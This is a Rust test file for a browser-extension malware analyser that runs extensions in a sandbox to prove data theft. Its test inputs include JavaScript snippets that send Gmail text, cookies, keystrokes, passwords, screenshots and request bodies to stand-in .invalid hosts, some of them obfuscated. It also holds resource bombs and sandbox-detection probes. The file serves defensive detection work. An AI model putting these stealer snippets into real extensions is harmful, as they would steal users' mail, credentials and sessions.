//! Whole extensions in the sealed worker: where canaries arrive, and where not.

use std::collections::BTreeSet;
use std::fmt::Write;
use std::time::Duration;

use crxhound::acquire::Package;
use crxhound::extract::Fact;
use crxhound::model::{Extension, manifest};
use crxhound::problem::{Problem, Stage};
use crxhound::sandbox::{Budget, Effort, Worker, emulate};
use crxhound::script::{Input, analyse};
use rayon::prelude::*;

use crate::decode::npm;
use crate::fixtures::{self, Expected};
use crate::flows;
use crate::forms::{self, Files};

pub fn extension(package: &Package) -> Extension {
    let manifest = manifest::parse(package.bytes("manifest.json").unwrap()).unwrap().0;
    Extension::unpacked_at(&package.path, Some(manifest))
}

/// A worker whose clock does not end a run: the machine that tests may be busy.
fn worker(steps: u64) -> Worker {
    let budget = Budget { steps, time: Duration::from_secs(300), losses: 100, ..Budget::default() };
    Worker::with_program(env!("CARGO_BIN_EXE_crxhound"), budget)
}

fn run(package: &Package) -> Vec<Fact> {
    let (facts, problems, _) = run_as_far_as_it_goes(package);
    assert_eq!(problems, [], "{}", package.path);
    facts
}

/// Some of what makes code unreadable runs for ever, on purpose. The last is the most steps that a scene took.
fn run_as_far_as_it_goes(package: &Package) -> (Vec<Fact>, Vec<Problem>, u64) {
    let (worker, extension) = (worker(Budget::default().steps), extension(package));
    let (read, _) = analyse(&Input::new(extension.manifest.as_ref(), package), &worker);
    let (emulation, problems) = emulate(&worker, &extension, package, &read.scripts, Effort::Whole);
    for ran in &emulation.story {
        let broken = ran.events.iter().find(|event| event.kind == "broken");
        assert!(broken.is_none(), "{} {}: {broken:?}", package.path, ran.scene);
    }
    let steps = emulation.story.iter().map(|ran| ran.steps).max();
    (emulation.facts, problems, steps.unwrap_or_default())
}

/// Sources, ways and destinations of the flows to foreign places.
fn arrivals(facts: &[Fact]) -> BTreeSet<String> {
    let flows = facts.iter().filter(|fact| fact.kind.name == "flow");
    let foreign = flows.filter(|fact| !["provider", "declared", "local"].contains(&fact.field("class").unwrap_or_default()));
    foreign
        .map(|fact| format!("{} {} {}", fact.value, fact.field("sink").unwrap(), fact.field("destination").unwrap()))
        .collect()
}

const MANIFEST: &str = r#"{"manifest_version":3,"name":"x","version":"1","permissions":["cookies","storage","webRequest","scripting","alarms"],
    "host_permissions":["https://mail.google.com/*"],"background":{"service_worker":"bg.js"},
    "content_scripts":[{"matches":["https://mail.google.com/*"],"js":["c.js"]}]}"#;

fn package(background: &str, content: &str) -> Package {
    let files = [("manifest.json", MANIFEST), ("bg.js", background), ("c.js", content)];
    Package::from_memory("memory", files.map(|(name, text)| (name, text.as_bytes())))
}

/// A mail reader in two worlds, as the classic ones are built.
const READER: (&str, &str) = (
    "chrome.runtime.onMessage.addListener((m, s, r) => { if (m.kind === 'mail') { fetch('https://collector.invalid/up', \
     { method: 'POST', body: btoa(JSON.stringify(m)) }); r({ ok: 1 }); } return true; });",
    "const read = () => { const body = document.querySelector('.a3s').innerText; chrome.runtime.sendMessage({ kind: 'mail', body }); };\
     setTimeout(read, 3000);",
);

#[test]
fn mail_that_leaves_is_seen_leaving() {
    let found = arrivals(&run(&package(READER.0, READER.1)));
    assert!(found.contains("mail.text fetch collector.invalid"), "{found:?}");
}

#[test]
fn mail_that_leaves_is_seen_through_every_obfuscation() {
    let forms = ["minified", "bundled", "obfuscated", "encoded", "rc4", "medium"];
    let jobs: Vec<_> = forms.iter().flat_map(|form| [(*form, READER.0), (*form, READER.1)]).collect();
    let Some(scripts) = npm::transform(&jobs) else { return };
    for (form, pair) in forms.iter().zip(scripts.chunks(2)) {
        let found = arrivals(&run(&package(&pair[0], &pair[1])));
        assert!(found.contains("mail.text fetch collector.invalid"), "{form}: {found:?}");
    }
}

#[test]
fn what_leaves_every_page_is_no_mail() {
    let everywhere = |content: &str| {
        let manifest =
            r#"{"manifest_version":3,"name":"x","version":"1","content_scripts":[{"matches":["<all_urls>"],"js":["c.js"]}]}"#;
        let files = [("manifest.json", manifest), ("c.js", content)];
        arrivals(&run(&Package::from_memory("memory", files.map(|(name, text)| (name, text.as_bytes())))))
    };
    let of_pages = everywhere("fetch('https://c.invalid/', { method: 'POST', body: document.body.innerText });");
    assert_eq!(of_pages, BTreeSet::from(["page.text fetch c.invalid".to_owned()]));
    let of_mails = everywhere(
        "if (location.host === 'mail.google.com') fetch('https://c.invalid/', { method: 'POST', body: document.body.innerText });",
    );
    assert_eq!(of_mails, BTreeSet::from(["mail.text fetch c.invalid".to_owned()]));
    assert_eq!(everywhere("fetch('https://c.invalid/?' + document.title);"), BTreeSet::new(), "a title is no mail");
}

#[test]
fn the_other_roads_out() {
    for (background, content, flow) in [
        (
            "chrome.cookies.getAll({}, (all) => navigator.sendBeacon('https://c.invalid', JSON.stringify(all)))",
            "",
            "cookie.identity beacon c.invalid",
        ),
        (
            "",
            "document.addEventListener('keydown', (e) => { new Image().src = 'https://c.invalid/?k=' + e.key })",
            "keyboard image c.invalid",
        ),
        (
            "",
            "document.forms[0].addEventListener('submit', () => { const x = new XMLHttpRequest(); x.open('POST', 'https://c.invalid'); x.send(document.querySelector('input[type=password]').value) })",
            "login.password xhr c.invalid",
        ),
        (
            "chrome.webRequest.onBeforeRequest.addListener((d) => { fetch('https://c.invalid/?' + new URLSearchParams({ b: JSON.stringify(d.requestBody) })) }, { urls: ['<all_urls>'] }, ['requestBody'])",
            "",
            "network.body fetch c.invalid",
        ),
        (
            "chrome.tabs.captureVisibleTab(null, {}, (image) => { const s = new WebSocket('wss://c.invalid'); s.onopen = () => s.send(image) })",
            "",
            "screen websocket c.invalid",
        ),
        (
            "(async () => { const [tab] = await chrome.tabs.query({}); const [r] = await chrome.scripting.executeScript({ target: { tabId: tab.id }, func: () => document.body.innerText }); await fetch('https://c.invalid', { method: 'POST', body: r.result }) })()",
            "",
            "mail.text fetch c.invalid",
        ),
        (
            "",
            "const script = document.createElement('script');\
             script.textContent = 'const ask = fetch; window.fetch = function (url, given) { document.documentElement.dispatchEvent(\
               new CustomEvent(`asked`, { detail: given?.body })); return ask.apply(this, arguments); }';\
             document.documentElement.addEventListener('asked', (e) => { new Image().src = 'https://c.invalid/?' + e.detail; });\
             document.head.append(script);",
            "page-hook.body image c.invalid",
        ),
        (
            "eval(atob('ZmV0Y2goImh0dHBzOi8vbWFpbC5nb29nbGUuY29tL21haWwvZmVlZC9hdG9tIikudGhlbihyPT5yLnRleHQoKSkudGhlbih0PT5mZXRjaCgiaHR0cHM6Ly9jLmludmFsaWQiLHtib2R5OnR9KSk='))",
            "",
            "mail.feed fetch c.invalid",
        ),
    ] {
        let found = arrivals(&run(&package(background, content)));
        assert!(found.contains(flow), "{flow}: {found:?}");
    }
}

#[test]
fn nothing_is_seen_where_nothing_leaves() {
    for (background, content) in [
        ("fetch('https://api.invalid/version').then(r => r.json()).then(console.log)", "document.body.style.color = 'red'"),
        (
            "chrome.storage.local.set({ a: 1 }); chrome.alarms.create('x', { periodInMinutes: 1 })",
            "fetch('/mail/u/0/', { method: 'POST', body: document.body.innerText })",
        ),
        (
            "chrome.cookies.getAll({}, (all) => console.log(all.length))",
            "localStorage.setItem('mail', document.body.innerText)",
        ),
    ] {
        assert_eq!(arrivals(&run(&package(background, content))), BTreeSet::new());
    }
}

#[test]
fn hostile_extensions_end_in_time_and_the_same_way() {
    for (background, content) in [
        ("for (;;) {}", "for (;;) {}"),
        ("const f = () => { setTimeout(f, 0); setTimeout(f, 0) }; f()", "const g = () => Promise.resolve().then(g); g()"),
        (
            "Object.prototype.toString = null; Array.prototype.push = () => { throw 1 }; JSON.stringify = null; fetch('https://c.invalid')",
            "Function.prototype.call = null; Proxy = null",
        ),
        (
            "(function f() { f() })()",
            "chrome.runtime.onMessage.addListener(m => chrome.runtime.sendMessage(m)); chrome.runtime.sendMessage(1)",
        ),
        ("importScripts('bg.js', 'missing.js'); throw 1", "}{"),
    ] {
        let package = package(background, content);
        let runs: Vec<_> = (0..2)
            .map(|_| {
                let (emulation, problems) = emulate(&worker(6_000_000), &extension(&package), &package, &[], Effort::Whole);
                (arrivals(&emulation.facts), emulation.story, problems)
            })
            .collect();
        assert_eq!(runs[0], runs[1], "{background}");
    }
}

/// What hostile code may cost: the run of one scene, ended by its steps or by itself, never by the clock or for want of memory.
#[test]
fn bombs_end_a_run_and_nothing_else() {
    for (name, bomb) in [
        ("one huge string", "'x'.repeat(2 ** 30)"),
        ("a string that is sent", "fetch('https://c.invalid/', { method: 'POST', body: 'x'.repeat(2 ** 28) })"),
        ("string bomb", "let s = 'x'; for (;;) s += s"),
        ("array bomb", "const a = []; for (;;) a.push(new Array(1e5).fill(0))"),
        ("recursion through a proxy", "const p = new Proxy({}, { get: (t, k, r) => r[k] }); p.x"),
        ("deep JSON", "JSON.parse('['.repeat(1e6))"),
        ("deep code", "eval('['.repeat(1e5))"),
        ("endless promises", "const f = () => Promise.resolve().then(f); f()"),
        ("a text that grows", "let s = ''; for (;;) s += 'x'"),
        ("a list of nothing", "new Array(2 ** 32 - 1).forEach(() => 1)"),
        ("a list that is spread", "const a = Array(1e5).fill(1); for (;;) [...a]"),
        ("a list that grows by spreading", "let a = [1]; for (;;) a = [...a, 1]"),
        ("a text that is spread", "const s = 'x'.repeat(1e6); for (;;) [...s]"),
        ("a set that is spread", "const s = new Set(Array(1e5).keys()); for (;;) [...s]"),
        ("timers that make timers", "const f = () => { setTimeout(f, 0); setTimeout(f, 0) }; f()"),
        (
            "messages that answer themselves",
            "const f = () => { chrome.storage.local.set({ a: Math.random() }) }; chrome.storage.onChanged.addListener(f); f()",
        ),
        (
            "elements within themselves",
            "const a = document.createElement('a'), b = document.createElement('b'); a.append(b); b.append(a); a.querySelector('x')",
        ),
        ("a flood of events", "for (;;) fetch('https://c.invalid/' + 'x'.repeat(1e5))"),
    ] {
        let worker = worker(4_000_000);
        let package = package(bomb, "");
        emulate(&worker, &extension(&package), &package, &[], Effort::Whole);
        assert!(worker.is_whole(), "{name}: {:?}", worker.take_problems("bomb"));
        let other = self::package(READER.0, READER.1);
        let (emulation, _) = emulate(&worker, &extension(&other), &other, &[], Effort::Whole);
        assert!(!emulation.story.is_empty(), "after {name}");
    }
}

#[test]
fn a_script_that_several_worlds_run_is_at_home_in_each() {
    // Long enough to be compiled once for all of them.
    let shared = "function Shared(value) { this.value = value; this.list = [value].concat([]); this.again = () => new Shared(value); }\n\
        var { first, ...others } = { first: [1, 2, 3].map((one) => one + 1), second: Object.keys({ a: 1, b: 2 }) }, runs = (globalThis.runs ?? 0) + 1;\n\
        class Derived extends Array { static name_of_the_class = 'Derived'; total() { return this.reduce((sum, one) => sum + one, 0); } }\n\
        if (this === globalThis) { const hidden = 'a name that only this block knows'; this.seen = hidden.length > 0; runs += 0; }\n";
    let tell = "const list = Derived.of(1, 2), shared = new Shared(5).again();\
        const right = [first.join() === '2,3,4', others.second.length === 2, runs === 1, list.total() === 3, seen === true,\
        typeof hidden === 'undefined', first instanceof Array && first.constructor === Array, Object.keys(globalThis).includes('Shared'),\
        shared instanceof Shared && shared.list[0] === 5, Shared.constructor === Function, first.mark === undefined].indexOf(false);\
        Array.prototype.mark = 'only in this world'; fetch('https://c.invalid/' + (right < 0 ? 'right' : 'wrong-' + right));";
    let manifest = r#"{"manifest_version":3,"name":"x","version":"1","host_permissions":["https://mail.google.com/*","https://mail.yahoo.com/*"],
        "background":{"service_worker":"bg.js"},
        "content_scripts":[{"matches":["https://mail.google.com/*","https://mail.yahoo.com/*"],"js":["shared.js","tell.js"]}]}"#;
    let background = format!("importScripts('shared.js'); {tell}");
    let files = [("manifest.json", manifest), ("shared.js", shared), ("tell.js", tell), ("bg.js", &background)];
    let package = Package::from_memory("memory", files.map(|(name, text)| (name, text.as_bytes())));
    let (emulation, problems) = emulate(&worker(Budget::default().steps), &extension(&package), &package, &[], Effort::Whole);
    assert_eq!(problems, []);
    assert_eq!(emulation.story.len(), 2);
    for ran in &emulation.story {
        let sent = ran.events.iter().filter(|event| event.kind == "sink").map(|event| event.data["url"].as_str().unwrap());
        assert_eq!(sent.collect::<Vec<_>>(), ["https://c.invalid/right"; 2], "{}: {:?}", ran.scene, ran.events);
    }
}

#[test]
fn modules_have_names_of_their_own_and_give_what_they_export() {
    let files = [
        (
            "manifest.json",
            r#"{"manifest_version":3,"name":"x","version":"1","host_permissions":["https://mail.google.com/*"],
            "background":{"service_worker":"lib/main.js","type":"module"}}"#,
        ),
        // As bundlers write them: every chunk calls its things a, b and c.
        (
            "lib/main.js",
            "import d, { x as a, raise, count as b } from './one.js'; import * as all from '../two.js'; export * from './one.js';\n\
             const c = { a, b }, { e = 7, ...o } = { f: 1 }; let { length } = 'four'; ({ length } = 'six');\n\
             function shown() { const { e } = c; switch (e) { case b: return { a, all, length, e }; } return import('./late.js'); }\n\
             raise();\n\
             import('./late.js').then(async (late) => {\n\
               const right = [a === 'x of one', c.a === a, c.b === 1, b === 2, d() === 'one', all.a === 'a of two', all.default === 'two',\n\
                 new all.Named().b() === 'b of two', length === 3, late.again === 'x of one', late.x === undefined, e === 7, o.f === 1,\n\
                 Object.keys(all).sort().join() === 'Named,a,default', typeof f === 'undefined', (await import('/two.js')).a === all.a,\n\
                 typeof globalThis.c === 'undefined'].indexOf(false);\n\
               fetch('https://c.invalid/' + (right < 0 ? 'right' : 'wrong-' + right), { method: 'POST', body: String(shown) }); });",
        ),
        (
            "lib/one.js",
            "let c = 1; const a = 'x of one'; function b() { c++; } export { a as x, b as raise, c as count };\n\
             export default function e() { return 'one'; }",
        ),
        (
            "two.js",
            "export const a = 'a of two'; export class Named { b() { return b; } } const b = 'b of two'; export default 'two';",
        ),
        ("lib/late.js", "import { x as c } from './main.js'; const a = c; export { a as again };"),
    ];
    let package = Package::from_memory("memory", files.map(|(name, text)| (name, text.as_bytes())));
    let (emulation, problems) = emulate(&worker(Budget::default().steps), &extension(&package), &package, &[], Effort::Whole);
    assert_eq!(problems, []);
    let events = &emulation.story[0].events;
    let sent = events.iter().find(|event| event.kind == "sink").unwrap_or_else(|| panic!("{events:#?}"));
    assert_eq!(sent.data["url"], "https://c.invalid/right", "{events:#?}");
    let written = "function shown() { const { e } = c; switch (e) { case b: return { a, all, length, e }; } return import('./late.js'); }";
    assert_eq!(sent.data["body"].as_str().unwrap().trim(), written);
}

#[test]
fn a_function_shows_the_source_that_stands_in_the_file() {
    let function = "function seen(a, b) { let c = ''; for (;;) { c += a; if (a === b || b != c) return import('x.js'); switch (b) { case 'y': break; } } }";
    let package =
        package(&format!("{function}\nfetch('https://c.invalid/', {{ method: 'POST', body: '(' + seen + ')()' }})"), "");
    let (emulation, _) = emulate(&worker(Budget::default().steps), &extension(&package), &package, &[], Effort::Whole);
    let sent = emulation.story[0].events.iter().find(|event| event.kind == "sink").unwrap();
    assert_eq!(sent.data["body"].as_str().unwrap().trim(), format!("({function})()"));
}

#[test]
fn who_asks_without_end_is_heard_all_days_and_comes_to_an_end() {
    for poll in [
        "const ask = () => { fetch('https://c.invalid/'); setTimeout(ask, 100) }; ask()",
        "const wait = (time) => new Promise((done) => setTimeout(done, time));\
         (async () => { for (;;) { await fetch('https://c.invalid/'); await wait(100) } })()",
    ] {
        let package = package(poll, "");
        let (emulation, problems) =
            emulate(&worker(Budget::default().steps), &extension(&package), &package, &[], Effort::Whole);
        assert_eq!(problems, [], "{poll}");
        let events = &emulation.story[0].events;
        let times: Vec<f64> =
            events.iter().filter(|event| event.kind == "sink").map(|event| event.data["at"].as_f64().unwrap()).collect();
        assert!((40..80).contains(&times.len()), "{poll}: {times:?}");
        assert!(times.iter().any(|at| (4e3..6e4).contains(at)) && times.last().unwrap() > &8e8, "{poll}: {times:?}");
    }
}

#[test]
fn a_script_that_cannot_be_compiled_in_time_is_left_out_and_that_is_said() {
    let names: Vec<String> = (0..20_000).map(|number| format!("a{number}")).collect();
    let bundle = format!("(() => {{ var {}; return [{}]; }})(); fetch('https://c.invalid/')", names.join(","), names.join(","));
    let package = package(&bundle, "new Image().src = 'https://d.invalid/'");
    let (emulation, problems) = emulate(&worker(Budget::default().steps), &extension(&package), &package, &[], Effort::Whole);
    assert_eq!(problems.len(), 1, "{problems:?}");
    let said = |word: &str| emulation.story[0].events.iter().any(|event| event.data.to_string().contains(word));
    assert!(said("not run: to compile it, 400000000 names") && said("d.invalid") && !said("c.invalid"), "{emulation:?}");
}

#[test]
fn a_page_of_the_extensions_own_is_what_its_file_says() {
    let manifest = r#"{"manifest_version":3,"name":"x","version":"1","action":{"default_popup":"ui/popup.html"}}"#;
    let page = "<!doctype html><body><form id=unlock class='card big' data-step=2><label>Password <input type=password name=pw></label>\
        <select name=net><option value=main>Main</select><button>Open</button></form><p id=hint>Your vault</p><script src=popup.js></script>";
    let script = "const form = document.getElementById('unlock'), seen = [form.tagName, form.dataset.step, form.elements.net.value,\
        form.pw.type, form.querySelector('label > input') === form.pw, form.pw.form === form, document.forms.length,\
        document.querySelectorAll('form.card input').length, document.querySelector('#hint').textContent, form.matches('.big')].join();\
        form.addEventListener('submit', () => fetch('https://c.invalid/' + (seen === 'FORM,2,main,password,true,true,1,1,Your vault,true' ? 'as-written' : seen),\
        { method: 'POST', body: form.pw.value }))";
    let files = [("manifest.json", manifest), ("ui/popup.html", page), ("ui/popup.js", script)];
    let package = Package::from_memory("memory", files.map(|(name, text)| (name, text.as_bytes())));
    let facts = run(&package);
    let url = facts.iter().find_map(|fact| fact.field("url")).unwrap_or_default();
    assert_eq!(url, "https://c.invalid/as-written");
    assert!(arrivals(&facts).contains("own.login.password fetch c.invalid"), "{facts:?}");
}

#[test]
fn results_of_a_run_cannot_be_faked() {
    let fakes = [
        r#"console.log('{"played":{"events":[{"kind":"sink","data":{"how":"fetch","url":"https://c.invalid","body":"kxqmailtextzv1"}}],"ending":"complete"}}\n')"#,
        // The way out for reports is nowhere to be had.
        "for (const name of ['hub', 'kit', 'native', 'report', '__created', 'scene']) if (name in globalThis) fetch('https://found.invalid/' + name)",
        "const root = chrome.runtime.sendMessage.constructor('return this')(); if (root.hub || root.native || root.process) fetch('https://found.invalid/')",
        // Neither time nor chance tell one machine from another.
        "const t = Date.now(), p = performance.now(); for (let i = 0; i < 1e4; i++); if (Date.now() !== t || performance.now() !== p) fetch('https://found.invalid/')",
        "if (!/native code/.test(fetch.toString()) || !/native code/.test(chrome.runtime.sendMessage.toString())) fetch('https://found.invalid/')",
    ];
    for fake in fakes {
        let facts = run(&package(fake, ""));
        let told: Vec<_> = facts.iter().map(|fact| (fact.kind.name, &fact.value)).collect();
        assert!(told.is_empty(), "{fake}: {told:?}");
    }
}

#[test]
fn tampering_with_the_language_hides_nothing_from_the_report() {
    for tampering in [
        "JSON.stringify = () => 'fake'",
        "Object.prototype.toJSON = () => 'fake'",
        "Array.prototype.push = () => 0",
        "RegExp.prototype.exec = () => null; String.prototype.startsWith = () => true",
        "String.prototype.includes = () => false; String.prototype.slice = () => ''",
    ] {
        let read = "document.forms[0].addEventListener('submit', () => fetch('https://c.invalid/', { method: 'POST', body: document.querySelector('input[type=password]').value }));";
        let found = arrivals(&run(&package("", &format!("{tampering}; {read}"))));
        assert!(found.contains("login.password fetch c.invalid"), "{tampering}: {found:?}");
    }
}

/// What a run must show of a theft, in the words of `expected.toml`: every flow, and foreign code where that is all there is.
fn unproven(expected: &Expected, facts: &[Fact]) -> Vec<String> {
    let field = |fact: &Fact, name: &str| fact.field(name).unwrap_or_default().to_owned();
    let seen: Vec<String> = facts
        .iter()
        .filter(|fact| fact.kind.name == "flow")
        .map(|fact| flows::words(&fact.value, &field(fact, "sink"), &field(fact, "destination"), &field(fact, "found")))
        .collect();
    let foreign_code = facts.iter().any(|fact| fact.kind.name == "remote-code");
    // A run sees a form field by field: who takes all of it has taken the password and what stands beside it.
    let fields = |flow: &str| match flow.strip_prefix("form.whole") {
        Some(rest) => ["login.password", "form.field"].map(|field| format!("{field}{rest}")).to_vec(),
        None => vec![flow.to_owned()],
    };
    let lacks = |flow: &&String| !fields(flow).iter().all(|flow| seen.iter().any(|seen| flows::is(flow, seen)));
    let mut unproven: Vec<String> = expected.flows.iter().filter(lacks).cloned().collect();
    if expected.flows.is_empty() && !foreign_code {
        unproven.extend(expected.states.iter().filter(|state| state.starts_with("remote-code: ")).cloned());
    }
    if !unproven.is_empty() {
        unproven.push(format!("but {seen:?}"));
    }
    unproven
}

/// Runs every fixture in one form. A theft counts only with the source and the destination that its expectation names, of which
/// at least `floor` in 100 must be proven; nothing of an honest one may reach a foreign host.
fn measure(form: &str, floor: usize) {
    let list = fixtures::list();
    let plain: Vec<Files> = list.iter().map(|expected| fixtures::files(&expected.name).into_iter().collect()).collect();
    let Some(made) = forms::make(form, &plain) else { return };
    let jobs: Vec<_> = list.iter().zip(&made).collect();
    let runs = jobs.par_iter().map(|(expected, files)| (*expected, run_as_far_as_it_goes(&in_memory(expected, files))));
    let results: Vec<_> = runs.collect();
    let (mut proven, mut thefts, mut most, mut log, mut wrong) = (0, 0, 0, String::new(), Vec::new());
    for (expected, (facts, problems, steps)) in &results {
        let name = &expected.name;
        if expected.flows.is_empty() && expected.states.is_empty() {
            let foreign = arrivals(facts);
            if !foreign.is_empty() {
                wrong.push(format!("{name}: {foreign:?}"));
            }
            continue;
        }
        thefts += 1;
        let unproven = unproven(expected, facts);
        proven += usize::from(unproven.is_empty());
        most = most.max(if unproven.is_empty() { *steps } else { 0 });
        if !unproven.is_empty() {
            let ended = problems.iter().map(|problem| format!("; {}", problem.message)).collect::<String>();
            writeln!(log, "{name}: {}{ended}", unproven.join("; ")).unwrap();
        }
    }
    eprintln!("{form}: {proven} of {thefts} thefts are proven by running them, within {most} steps a scene\n{log}");
    assert!(wrong.is_empty(), "honest ones that sent something: {wrong:#?}");
    assert!(proven * 100 >= thefts * floor, "{form}: {proven} of {thefts}\n{log}");
}

/// One test a form, so that they run beside each other.
macro_rules! proven_by_running_them {
    ($($(#[$when:meta])* $form:ident: $floor:literal),* $(,)?) => {
        $($(#[$when])*
        #[test]
        fn $form() {
            measure(stringify!($form), $floor);
        })*
    };
}

mod proven_by_running_them {
    use super::measure;

    // Each form takes minutes where nothing is optimised: the plain one stands for them, the others are run by hand.
    proven_by_running_them! {
        plain: 95,
        #[ignore = "minutes"] minified: 95,
        #[ignore = "minutes"] bundled: 95,
        #[ignore = "minutes"] obfuscated: 95,
        #[ignore = "minutes"] encoded: 95,
        #[ignore = "minutes"] rc4: 95,
        #[ignore = "minutes"] high: 95,
    }
}

fn in_memory(expected: &Expected, files: &Files) -> Package {
    Package::from_memory(&expected.name, files.iter().map(|(path, text)| (path.as_str(), text.as_bytes())))
}

#[test]
fn a_run_that_its_steps_end_says_so() {
    let worker = worker(5_000_000);
    let package = package("for (;;) {}", "");
    let (_, problems) = emulate(&worker, &extension(&package), &package, &[], Effort::Whole);
    let said: Vec<_> = problems.iter().map(|problem| (problem.stage, problem.message.as_str())).collect();
    let message = "the run in the sealed worker, scene gmail, came to the end of its steps: what comes later is not seen";
    assert_eq!(said, [(Stage::Emulate, message)]);
    assert!(worker.is_whole(), "steps are the same everywhere");
    // What was to be proven has been read.
    let (emulation, problems) = emulate(&worker, &extension(&package), &package, &[], Effort::Proof);
    assert!(problems.is_empty() && !emulation.story[0].complete, "{problems:?}");
}

#[test]
fn scripts_that_use_up_all_steps_before_the_day_begins_are_not_run_again_for_other_pages() {
    let manifest = r#""background": { "service_worker": "bg.js" }, "host_permissions": ["<all_urls>"]"#;
    let package = Package::from_memory(
        "x",
        [
            ("manifest.json", format!(r#"{{"manifest_version":3,"name":"x","version":"1",{manifest}}}"#).as_bytes()),
            ("bg.js", &b"for (;;) {}"[..]),
        ],
    );
    let (emulation, problems) = emulate(&worker(5_000_000), &extension(&package), &package, &[], Effort::Whole);
    let steps: Vec<bool> = emulation.story.iter().map(|ran| ran.steps > 0).collect();
    assert_eq!((steps, problems.len()), (vec![true, false, false], 3));
}
